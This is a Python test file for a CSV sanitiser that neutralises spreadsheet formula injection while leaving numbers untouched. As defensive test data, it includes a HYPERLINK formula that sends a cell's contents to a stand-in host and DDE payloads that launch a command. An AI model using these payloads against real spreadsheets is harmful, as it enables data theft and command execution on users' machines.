"""CSV cells that a spreadsheet would run as formulas are made inert; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from ulinzi.common import safecsv


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-1+2",
        "-cmd",
        "-",
        "+",
        "=",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        "-3.5 30.1",
        "-inf",
        "-nan",
    ],
)
def test_a_cell_that_would_start_a_formula_gets_an_apostrophe(cell: str) -> None:
    assert safecsv.inert(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "-3",
        "-3.5",
        "+2",
        "-.5",
        "-1e5",
        "-2.5E-3",
        "3",
        "007",
        "",
        "plain text",
        " =1",
        "a=1",
        "#geo+lat",
    ],
)
def test_numbers_and_ordinary_text_are_unchanged(cell: str) -> None:
    assert safecsv.inert(cell) == cell


@pytest.mark.parametrize("value", [-3, -3.5, 0, None, True])
def test_values_that_are_not_text_are_unchanged(value: object) -> None:
    assert safecsv.inert(value) is value


def test_the_writer_makes_every_cell_of_every_row_inert() -> None:
    out = io.StringIO()
    w = safecsv.Writer(out)
    w.writerow(["=1+1", -3, "-3", None])
    w.writerows([["@x", 2.5], ["ok", "+y"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+1", "-3", "-3", ""],
        ["'@x", "2.5"],
        ["ok", "'+y"],
    ]
